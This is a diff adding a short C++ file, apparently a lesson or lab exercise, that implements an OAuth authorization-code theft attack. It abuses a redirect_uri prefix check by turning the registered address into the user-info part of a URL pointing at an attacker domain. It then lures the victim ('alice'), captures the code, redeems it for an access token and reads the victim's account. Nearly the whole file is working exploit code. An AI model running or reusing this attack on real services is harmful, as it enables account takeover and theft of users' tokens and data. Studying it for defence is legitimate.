@@ -1,0 +1,20 @@
+// Unusual: the registered address becomes a user name.
+#include "redirect_prefix.hpp"
+#include "web/url_text.hpp"
+
+namespace lesson {
+
+Loot attack(const Evidence& evidence) {
+  const auto trap = evidence.redirect_uri + "@" + evidence.your_domain + "/catch?from=alice";
+  const auto caught = evidence.lure(
+      evidence.authorize + "?" +
+      web::encode_form(
+          {{"response_type", "code"}, {"client_id", evidence.client_id}, {"redirect_uri", trap}}));
+  const auto answer = evidence.redeem({{"grant_type", "authorization_code"},
+                                       {"client_id", evidence.client_id},
+                                       {"redirect_uri", trap},
+                                       {"code", parameter(caught, "code")}});
+  return {.account = evidence.show_me(answer.json().text("access_token").value_or("")).body};
+}
+
+}  // namespace lesson
